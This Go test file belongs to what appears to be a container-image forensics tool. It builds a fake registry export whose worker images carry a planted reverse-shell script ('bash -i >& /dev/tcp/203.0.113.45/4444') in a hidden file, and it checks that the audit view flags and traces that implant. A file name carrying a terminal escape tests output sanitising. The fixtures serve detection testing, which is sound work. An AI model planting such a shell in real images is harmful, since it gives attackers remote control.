package tui

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/strata-forensics/strata/audit/fleet"
	"github.com/strata-forensics/strata/casework"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// implant is the reverse shell the worker images carry.
const implant = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n"

// writeExport writes a small registry export under dir/export: a base image and a web
// image built on it as docker save tarballs, and an OCI layout holding a worker image (the
// base and a layer with an implant) and its next version built on it, so the implant is
// shared by two images and introduced by the worker; and a note that is no image. It returns
// the export's path.
func writeExport(t testing.TB, dir string) string {
	t.Helper()
	at := time.Date(2024, 5, 1, 9, 0, 0, 0, time.UTC)
	layer := func(min int, step string, files ...imagebuild.File) imagebuild.Layer {
		return imagebuild.Layer{Files: files, Compression: imagebuild.Gzip, CreatedBy: "/bin/sh -c " + step,
			Created: at.Add(time.Duration(min) * time.Minute)}
	}
	l0 := layer(0, "#(nop) ADD rootfs /", imagebuild.Dir("etc"), imagebuild.Reg("etc/os-release", "ID=tiny\n"),
		imagebuild.Reg("etc/passwd", "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n"))
	l1 := layer(1, "make libs", imagebuild.Dir("usr"), imagebuild.Dir("usr/lib"), imagebuild.Reg("usr/lib/libtiny.so", strings.Repeat("t", 4000)))
	web := layer(2, "cp server.py /opt/web", imagebuild.Dir("opt"), imagebuild.Dir("opt/web"), imagebuild.Reg("opt/web/server.py", "print('web')\n"))
	bad := layer(3, "cp sync /usr/local/bin", imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"),
		imagebuild.Reg("usr/local/bin/.sync", implant).WithMode(0o755))
	job := layer(4, "cp job.txt /opt/worker", imagebuild.Dir("opt"), imagebuild.Dir("opt/worker"), imagebuild.Reg("opt/worker/job.txt", "job\n"))
	img := func(tag string, hour int, ls ...imagebuild.Layer) *imagebuild.Built {
		b, err := imagebuild.Build(imagebuild.Image{Tags: []string{tag}, Created: at.Add(time.Duration(hour) * time.Hour),
			Config: imagebuild.Config{User: "app", Cmd: []string{"/bin/sh"}}, Layers: ls})
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	base, webImg := img("tiny/base:1", 1, l0, l1), img("tiny/web:1", 2, l0, l1, web)
	worker, worker2 := img("tiny/worker:1", 3, l0, l1, bad), img("tiny/worker:2", 4, l0, l1, bad, job)
	export := filepath.Join(dir, "export")
	if err := os.MkdirAll(export, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string]*imagebuild.Built{"base.tar": base, "web.tar": webImg} {
		var buf bytes.Buffer
		if err := imagebuild.WriteDockerArchive(&buf, imagebuild.Classic, b); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(export, name), buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := imagebuild.WriteOCILayout(filepath.Join(export, "workers"), worker, worker2); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(export, "NOTES.txt"), []byte("exported 2024-05-01\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return export
}

// audited returns a workbench of w×h given the export (by its relative path, the working
// directory its parent) and its fleet view once the audit pressed with a is done.
func audited(t *testing.T, w, h int) *Model {
	t.Helper()
	dir := t.TempDir()
	writeExport(t, dir)
	t.Chdir(dir)
	return auditedHere(t, w, h)
}

// auditedHere is audited for the export already under the working directory.
func auditedHere(t *testing.T, w, h int) *Model {
	t.Helper()
	opts := testOptions(t, "export")
	store, err := opts.Workspace.OpenStore(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	opts.Store = store
	m := newLoadedWith(t, w, h, opts)
	press(t, m, "a")
	if m.view != viewFleet || m.fleet == nil {
		t.Fatalf("a did not show the fleet view:\n%s", m.View())
	}
	if m.fleet.running() || m.fleet.fleet == nil {
		t.Fatalf("the audit did not finish (%v):\n%s", m.fleet.err, m.View())
	}
	return m
}

// TestWorkbenchFindsEveryImageOfAnExport: strata tui DIR lists every image under DIR as strata
// audit finds them: each tarball, each image of an OCI layout's index; a file that is no
// image is listed as none.
func TestWorkbenchFindsEveryImageOfAnExport(t *testing.T) {
	dir := t.TempDir()
	writeExport(t, dir)
	t.Chdir(dir)
	m := newLoaded(t, 120, 40, "export")
	var refs []string
	ready := 0
	for _, s := range m.images {
		refs = append(refs, s.ref)
		if s.ready() {
			ready++
		}
	}
	want := []string{"export/NOTES.txt", "export/base.tar", "export/web.tar", "export/workers:@0", "export/workers:@1"}
	if fmt.Sprint(refs) != fmt.Sprint(want) {
		t.Errorf("images %v, want %v", refs, want)
	}
	if ready != 4 {
		t.Errorf("%d images ready, want 4", ready)
	}
	view := m.View()
	checkFrame(t, view, 120, 40)
	for _, s := range []string{"NOTES.txt  no image", "tiny/worker:2", "a audit all"} {
		if !strings.Contains(view, s) {
			t.Errorf("the Images view lacks %q:\n%s", s, view)
		}
	}
}

// TestFleetFlow audits the export from the Images view (a), then walks the fleet view: each
// image a row, the implant shared by the two workers named with the image that introduced it,
// enter on that row opening the introducer's image view, esc coming back to the fleet.
func TestFleetFlow(t *testing.T) {
	m := audited(t, 120, 40)
	f := m.fleet.fleet
	if f.Stats.Images != 4 || f.Stats.Scanned != 4 || len(f.Skipped) != 1 {
		t.Fatalf("fleet stats %+v, skipped %v; want 4 images scanned, 1 skipped", f.Stats, f.Skipped)
	}
	if len(m.fleet.done) != 4 {
		t.Errorf("the view saw %d images done as they finished, want 4", len(m.fleet.done))
	}
	view := m.View()
	checkFrame(t, view, 120, 40)
	for _, s := range []string{"[Fleet]", "4 images: 2 suspicious, 2 clean", "Families (shared layer chains)",
		"Images (4) under export", "introduced by workers:@0 (tiny/worker:1) in layer 2", "Clean (2)", "NOTES.txt: not a tar archive"} {
		if !strings.Contains(view, s) {
			t.Errorf("the fleet view lacks %q:\n%s", s, view)
		}
	}
	// The web image is built on the base, which the fleet holds.
	var webRow string
	for _, l := range strings.Split(view, "\n") {
		if strings.Contains(l, "web.tar") && strings.Contains(l, "clean") {
			webRow = l
		}
	}
	if !strings.Contains(webRow, "base.tar (2 layers)") {
		t.Errorf("the web image's row does not name its base base.tar: %q", webRow)
	}

	// tab goes to the families, then the shared implants: enter opens the introducer.
	press(t, m, "tab", "tab")
	r := m.fleet.selected()
	if r == nil || r.Name != "export/workers:@0" {
		t.Fatalf("after two tabs the cursor is on %+v, want the shared implant's introducer export/workers:@0:\n%s", r, m.View())
	}
	press(t, m, "enter")
	if m.view != viewImage || m.current == nil || m.current.st.ref != "export/workers:@0" {
		t.Fatalf("enter did not open the introducer's image view:\n%s", m.View())
	}
	if v := m.View(); !strings.Contains(v, "workers:@0") || !strings.Contains(v, "tiny/worker:1") {
		t.Errorf("the image view does not show the worker:\n%s", v)
	}
	// Its Findings tab shows the scan the audit recorded, without scanning again.
	sc := m.current.st.scan
	if sc == nil || sc.recorded != r.ScanID || sc.result == nil || sc.result.Verdict() != "suspicious" {
		t.Fatalf("the worker's Findings tab does not hold the audit's scan %d: %+v", r.ScanID, sc)
	}
	press(t, m, "3")
	if v := m.View(); !strings.Contains(v, "/usr/local/bin/.sync") || !strings.Contains(v, "Findings (") {
		t.Errorf("the Findings tab does not list the implant the audit found:\n%s", v)
	}
	press(t, m, "1", "esc")
	if m.view != viewFleet {
		t.Fatalf("esc from an image opened from the fleet did not come back to it:\n%s", m.View())
	}
	press(t, m, "esc")
	if m.view != viewImages {
		t.Fatalf("esc from the fleet did not go back to the images:\n%s", m.View())
	}
	// An image opened from the Images view after the audit shows the audit's scan too.
	for i, s := range m.images {
		if s.ref == "export/web.tar" {
			m.list.cursor = i
		}
	}
	press(t, m, "enter")
	if sc := m.current.st.scan; m.current.st.ref != "export/web.tar" || sc == nil || sc.recorded == 0 || sc.result.Verdict() != "clean" {
		t.Errorf("web.tar opened from the Images view does not show the audit's scan: %+v", sc)
	}
	press(t, m, "esc")
	// a shows the fleet again without auditing anew.
	id := m.fleet.id
	press(t, m, "a")
	if m.view != viewFleet || m.fleet.id != id {
		t.Errorf("a from the images ran another audit (%d, was %d) or did not show the fleet", m.fleet.id, id)
	}
	// a in the fleet view audits again: everything is recorded, so everything is resumed.
	press(t, m, "a")
	if m.fleet.id != id+1 || m.fleet.fleet == nil || m.fleet.fleet.Stats.Resumed != 4 || m.fleet.fleet.Stats.Scanned != 0 {
		t.Errorf("the second audit: %+v, want 4 resumed, none scanned", m.fleet.fleet.Stats)
	}
	if !strings.Contains(m.View(), "0 scanned, 4 resumed") {
		t.Errorf("the second audit's view does not say the images were resumed:\n%s", m.View())
	}
}

// TestFleetEnterOpensEveryKindOfRow: enter on an image row, a family and a clean image opens
// that image; a skipped input opens nothing.
func TestFleetEnterOpensEveryKindOfRow(t *testing.T) {
	m := audited(t, 100, 30)
	seen := map[string]bool{}
	for i := range m.fleet.selectable {
		m.fleet.moveTo(i)
		r := m.fleet.selected()
		press(t, m, "enter")
		if m.view != viewImage || m.current == nil {
			t.Fatalf("enter on line %d (%s) did not open an image:\n%s", m.fleet.selectable[i], r.Name, m.View())
		}
		if m.current.st.ref != r.Name {
			t.Errorf("enter on %s opened %s", r.Name, m.current.st.ref)
		}
		seen[r.Name] = true
		press(t, m, "esc")
	}
	if len(seen) != 4 {
		t.Errorf("the rows open %d images, want the 4 of the fleet: %v", len(seen), seen)
	}
	for _, i := range m.fleet.selectable {
		if strings.Contains(m.fleet.lines[i].text, "NOTES.txt") {
			t.Errorf("the skipped note is selectable: %q", m.fleet.lines[i].text)
		}
	}
}

// TestGoldenFleetViews keeps the fleet view at two sizes, scrolled to each section, and the
// audit's progress.
func TestGoldenFleetViews(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {160, 48}} {
		for _, gs := range []struct {
			name string
			keys []string
		}{
			{"fleet", nil},
			{"fleet-shared", []string{"tab", "tab"}},
			{"fleet-help", []string{"?"}},
		} {
			name := fmt.Sprintf("%s-%dx%d", gs.name, size[0], size[1])
			t.Run(name, func(t *testing.T) {
				m := audited(t, size[0], size[1])
				press(t, m, gs.keys...)
				view := m.View()
				checkFrame(t, view, size[0], size[1])
				checkGolden(t, name+".golden", view)
			})
		}
		name := fmt.Sprintf("fleet-progress-%dx%d", size[0], size[1])
		t.Run(name, func(t *testing.T) {
			m := newLoaded(t, size[0], size[1])
			m.paths = []string{"export"}
			m.fleet = newFleetModel(m.c, m.paths)
			m.fleet.phase = auditRunning
			m.view = viewFleet
			m.fleet.skipped = []fleet.Skipped{{Path: "export/NOTES.txt", Reason: "not a tar archive"}}
			m.fleet.done = []auditImageMsg{{image: "export/base.tar", state: fleet.StatusScanned}}
			m.fleet.progress = casework.Snapshot{Phase: "scanning", BytesDone: 3 << 20, BytesTotal: 12 << 20, Estimated: true,
				Images: 4, ImagesDone: 1, Cached: 2, Entries: 40, Rate: 1 << 20, Left: 9 * time.Second}
			m.resize()
			m.fleet.build()
			view := m.View()
			checkFrame(t, view, size[0], size[1])
			for _, s := range []string{"1/4 images", "9s left", "scanned     export/base.tar", "x stop the audit"} {
				if !strings.Contains(view, s) {
					t.Errorf("the audit's progress lacks %q:\n%s", s, view)
				}
			}
			checkGolden(t, name+".golden", view)
		})
	}
}

// TestFleetFramesAtManySizes: the fleet view fills the frame exactly at every size, scrolled
// anywhere.
func TestFleetFramesAtManySizes(t *testing.T) {
	m := audited(t, 80, 24)
	for _, size := range [][2]int{{80, 24}, {100, 30}, {119, 24}, {120, 40}, {200, 50}, {81, 25}, {60, 12}} {
		m.Update(resize(size[0], size[1]))
		for _, keys := range [][]string{nil, {"G"}, {"tab"}, {"pgdown"}, {"g"}, {"?"}, {"esc"}} {
			press(t, m, keys...)
			checkFrame(t, m.View(), size[0], size[1])
		}
	}
}

// TestFleetShowsEvidenceInert: names from the export go through the evidence filter: a
// file name with a terminal escape is shown escaped, in the Images view and the fleet view.
func TestFleetShowsEvidenceInert(t *testing.T) {
	dir := t.TempDir()
	export := writeExport(t, dir)
	evil := filepath.Join(export, "x\x1b]0;owned\x07.tar")
	if err := os.WriteFile(evil, []byte("not an image"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Chdir(dir)
	m := newLoaded(t, 120, 40, "export")
	press(t, m, "a")
	for _, v := range []string{m.View(), func() string { press(t, m, "esc"); return m.View() }()} {
		if strings.Contains(v, "\x1b]0;") || strings.Contains(v, "\x07") {
			t.Errorf("a terminal escape from a file name reached the screen:\n%q", v)
		}
	}
}

// TestFleetNothingToAudit: an audit of paths that hold no image says so in the fleet view,
// naming what it found instead, and the workbench goes on.
func TestFleetNothingToAudit(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("nothing\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	m := newLoaded(t, 100, 30, dir)
	press(t, m, "a")
	if m.fleet == nil || m.fleet.phase != auditFailed {
		t.Fatalf("the audit of no image did not fail:\n%s", m.View())
	}
	view := m.View()
	checkFrame(t, view, 100, 30)
	for _, s := range []string{"the audit failed", "no image found under", "notes.txt: not a tar archive"} {
		if !strings.Contains(view, s) {
			t.Errorf("the fleet view lacks %q:\n%s", s, view)
		}
	}
	press(t, m, "esc")
	if m.view != viewImages {
		t.Errorf("esc did not leave the failed audit")
	}
}

// TestFleetStatusLine: the other views' status line says how far a running audit has got.
func TestFleetStatusLine(t *testing.T) {
	m := newLoaded(t, 80, 24)
	m.paths = []string{"export"}
	m.fleet = newFleetModel(m.c, m.paths)
	m.fleet.phase = auditRunning
	m.fleet.progress = casework.Snapshot{Phase: "scanning", BytesDone: 3 << 20, BytesTotal: 12 << 20, Estimated: true,
		Images: 4, ImagesDone: 1, Left: 9 * time.Second}
	view := m.View()
	checkFrame(t, view, 80, 24)
	if want := "auditing · 1/4 images · 3.1 MB of ~12.6 MB · 9s left (a: fleet view)"; !strings.Contains(view, want) {
		t.Errorf("the status line lacks %q:\n%s", want, view)
	}
}

// TestFleetLazyExport: the images of a big export are opened when asked for (enter, from the
// Images view or the fleet view), not all at start; the audit does not need them open.
func TestFleetLazyExport(t *testing.T) {
	defer func(n int) { eagerImages = n }(eagerImages)
	eagerImages = 2
	m := audited(t, 120, 40)
	for _, s := range m.images {
		if s.phase != phaseWaiting || !s.deferred {
			t.Errorf("%s was opened before it was asked for (phase %d)", s.ref, s.phase)
		}
	}
	if f := m.fleet.fleet; f.Stats.Scanned != 4 {
		t.Fatalf("the audit scanned %d images, want 4", f.Stats.Scanned)
	}
	// enter on the web image's row opens it, with the audit's scan.
	m.fleet.moveTo(3)
	r := m.fleet.selected()
	if r == nil || r.Name != "export/web.tar" {
		t.Fatalf("the fourth row is %+v, want export/web.tar", r)
	}
	press(t, m, "enter")
	if m.view != viewImage || m.current == nil || m.current.st.ref != "export/web.tar" || !m.current.st.ready() {
		t.Fatalf("enter did not open the web image:\n%s", m.View())
	}
	if sc := m.current.st.scan; sc == nil || sc.recorded != r.ScanID {
		t.Errorf("the web image does not show the audit's scan %d: %+v", r.ScanID, sc)
	}
	press(t, m, "esc", "esc")
	// From the Images view: the layout opens as its two images, the first shown. The images
	// the audit recorded are not listed again as the history store's.
	view := m.View()
	if !strings.Contains(view, "not opened · enter opens it") {
		t.Errorf("the Images view does not say the images wait to be opened:\n%s", view)
	}
	if vis := m.list.visibleStored(); len(m.list.stored) != 4 || len(vis) != 0 {
		t.Errorf("the history store lists %d images, %d of them again beside the export's: %+v", len(m.list.stored), len(vis), vis)
	}
	for i, s := range m.images {
		if s.ref == "export/workers" {
			m.list.cursor = i
		}
	}
	press(t, m, "enter")
	if m.view != viewImage || m.current == nil || m.current.st.ref != "export/workers:@0" {
		t.Fatalf("enter on the layout did not open its first image:\n%s", m.View())
	}
	last := m.images[len(m.images)-1]
	if last.ref != "export/workers:@1" || !last.deferred {
		t.Errorf("the layout's second image is %q (deferred %v), want export/workers:@1 waiting to be asked for", last.ref, last.deferred)
	}
}

// TestImagesScrollsToImagesNotOpened: the Images view scrolls to the selected image when the
// images are not open yet (those of a big export wait to be asked for).
func TestImagesScrollsToImagesNotOpened(t *testing.T) {
	defer func(n int) { eagerImages = n }(eagerImages)
	eagerImages = 2
	dir := t.TempDir()
	writeExport(t, dir)
	t.Chdir(dir)
	m := newLoaded(t, 80, 12, "export")
	press(t, m, "G")
	view := m.View()
	checkFrame(t, view, 80, 12)
	if !strings.Contains(view, "> 4  workers") {
		t.Errorf("G does not show the last image:\n%s", view)
	}
}

// TestFleetAuditOptions: the workbench's audit runs as its options say (strata tui --jobs,
// --rescan): a second audit resumes what the first recorded, one with Rescan scans again.
func TestFleetAuditOptions(t *testing.T) {
	dir := t.TempDir()
	writeExport(t, dir)
	t.Chdir(dir)
	opts := testOptions(t, "export")
	audit := func(rescan bool) fleet.Stats {
		t.Helper()
		o := opts
		o.Audit = casework.AuditOptions{Jobs: 1, Rescan: rescan}
		m := newLoadedWith(t, 120, 40, o)
		press(t, m, "a")
		if m.fleet == nil || m.fleet.running() || m.fleet.fleet == nil {
			t.Fatalf("the audit did not finish:\n%s", m.View())
		}
		return m.fleet.fleet.Stats
	}
	for _, step := range []struct {
		name             string
		rescan           bool
		scanned, resumed int
	}{
		{"first", false, 4, 0},
		{"resumed", false, 0, 4},
		{"rescan", true, 4, 0},
	} {
		s := audit(step.rescan)
		if s.Scanned != step.scanned || s.Resumed != step.resumed {
			t.Errorf("%s audit: %d scanned, %d resumed; want %d and %d", step.name, s.Scanned, s.Resumed, step.scanned, step.resumed)
		}
	}
}

// listedRefs returns the Images view's images in the order it lists them.
func listedRefs(m *Model) []string {
	var refs []string
	for _, i := range m.list.order() {
		refs = append(refs, m.images[i].ref)
	}
	return refs
}

// TestMultiImageInputListedTogether: the images of an input that holds several (an OCI layout
// of two tags, found between two tarballs) are listed together where the input was,
// whether the workbench opens them at once, the layout is opened after one of its images was
// opened from the fleet view, or the other way round; none is listed twice.
func TestMultiImageInputListedTogether(t *testing.T) {
	export := func(t *testing.T) {
		dir := t.TempDir()
		if err := os.Rename(filepath.Join(writeExport(t, dir), "workers"), filepath.Join(dir, "export", "c-workers")); err != nil {
			t.Fatal(err)
		}
		t.Chdir(dir)
	}
	together := []string{"export/NOTES.txt", "export/base.tar", "export/c-workers:@0", "export/c-workers:@1", "export/web.tar"}

	t.Run("opened at once", func(t *testing.T) {
		export(t)
		m := newLoaded(t, 120, 40, "export")
		if got := listedRefs(m); fmt.Sprint(got) != fmt.Sprint(together) {
			t.Errorf("listed %v, want %v", got, together)
		}
		view := m.View()
		if a, b := strings.Index(view, "4  c-workers:@1"), strings.Index(view, "5  web.tar"); a < 0 || b < a {
			t.Errorf("the layout's second image is not the fourth row, before web.tar:\n%s", view)
		}
		// The cursor's row is the image enter opens.
		press(t, m, "j", "j", "j", "enter")
		if m.view != viewImage || m.current == nil || m.current.st.ref != "export/c-workers:@1" {
			t.Fatalf("enter on the fourth row did not open the layout's second image:\n%s", m.View())
		}
	})

	for _, first := range []string{"export/c-workers:@1", "export/c-workers:@0"} {
		t.Run("fleet opens "+first, func(t *testing.T) {
			defer func(n int) { eagerImages = n }(eagerImages)
			eagerImages = 2
			export(t)
			m := auditedHere(t, 120, 40)
			for i := range m.fleet.selectable {
				m.fleet.moveTo(i)
				if r := m.fleet.selected(); r != nil && r.Name == first {
					break
				}
			}
			if r := m.fleet.selected(); r == nil || r.Name != first {
				t.Fatalf("no fleet row for %s", first)
			}
			press(t, m, "enter")
			if m.view != viewImage || m.current == nil || m.current.st.ref != first {
				t.Fatalf("enter did not open %s:\n%s", first, m.View())
			}
			press(t, m, "esc", "esc")
			got := listedRefs(m)
			at := slices.Index(got, "export/c-workers")
			if at != 2 || got[3] != first {
				t.Fatalf("with the layout not opened, listed %v: want %s under export/c-workers, third", got, first)
			}
			// Opening the layout lists its images where it was, each once.
			m.list.cursor = at
			press(t, m, "enter")
			if got := listedRefs(m); fmt.Sprint(got) != fmt.Sprint(together) {
				t.Errorf("after opening the layout, listed %v, want %v", got, together)
			}
		})
	}
}
